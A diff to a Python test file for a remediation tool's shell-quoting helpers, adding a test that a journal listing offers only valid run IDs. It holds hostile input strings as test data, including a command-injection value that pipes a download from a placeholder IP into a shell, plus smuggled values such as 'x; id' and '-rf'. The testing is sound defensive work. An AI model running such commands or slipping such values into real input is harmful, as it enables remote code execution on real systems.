@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import subprocess
+from pathlib import Path
 
 import pytest
 
 from remediation.commands import advice, command, joined, quoted
+from remediation.journal import Journal
+from remediation.journal.listing import newest
 
 HOSTILE = [
     "x; curl http://192.0.2.1 | sh",
@@ -39,3 +42,12 @@ def test_a_word_in_a_sentence_is_quoted_too() -> None:
     assert str(advice("repeat with --context {}", "{0} a  or  b")) == "repeat with --context '{0} a  or  b'"
     assert joined((command("a"), advice("see {}", command("b", "c d")))) == "a  or  see b 'c d'"
     assert quoted("plain-1.example.com") == "plain-1.example.com"
+
+
+def test_only_ids_are_offered(tmp_path: Path) -> None:
+    """A journal of somebody else completes no command line with words of theirs."""
+    journal = Journal(tmp_path / "journal.db")
+    for run in ("20260102-030405-ab12cd34", "x; id", "a\nb", "-rf", "a" * 64):
+        journal.append(run, "run.created", {"runbook": "ip-masq-agent"})
+    journal.close()
+    assert newest(tmp_path / "journal.db") == [("20260102-030405-ab12cd34", "ip-masq-agent")]
